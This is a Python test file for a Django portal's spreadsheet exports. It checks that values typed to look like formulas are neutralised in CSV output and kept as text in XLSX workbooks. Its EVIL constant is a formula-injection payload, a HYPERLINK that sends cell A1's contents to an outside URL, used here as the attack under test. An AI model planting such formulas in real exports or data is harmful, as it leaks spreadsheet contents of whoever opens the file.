"""Spreadsheets the portal writes never carry a formula someone typed as text: CSV exports
neutralise them, XLSX files keep them as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from common.exports import neutralised, text_not_formulas
from common.imports.engine import Refusal
from common.imports.workbooks import refused_workbook

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://example.com/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"


def test_other_values_are_left_alone():
    assert neutralised("Nguyễn Văn An") == "Nguyễn Văn An"
    assert neutralised(-5) == -5 and neutralised(None) is None


def test_a_member_address_typed_as_a_formula_exports_as_text(client_for, world):
    world.member_a1.address = EVIL
    world.member_a1.save()
    response = client_for("province").get(reverse("members:export", args=["csv"]), {"q": "an"})
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    [row] = [row for row in rows if row[0] == "Nguyễn Văn An"]
    assert "'" + EVIL in row
    # the XLSX export writes it as an inline text, never a formula
    response = client_for("province").get(reverse("members:export", args=["xlsx"]), {"q": "an"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == EVIL]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_refused_rows_come_back_as_text_not_formulas():
    content = refused_workbook(["Họ và tên", "Địa chỉ"], [Refusal(2, ["An", EVIL], [("X", "y")])])
    sheet = load_workbook(io.BytesIO(content)).active
    cell = sheet.cell(2, 2)
    assert cell.value == EVIL and cell.data_type == "s"


def test_a_workbook_built_with_openpyxl_keeps_texts_as_texts():
    workbook = Workbook()
    workbook.active.append(["=1+1", 5])
    assert workbook.active["A1"].data_type == "f"
    output = io.BytesIO()
    text_not_formulas(workbook).save(output)
    reread = load_workbook(io.BytesIO(output.getvalue())).active
    assert reread["A1"].value == "=1+1" and reread["A1"].data_type == "s"
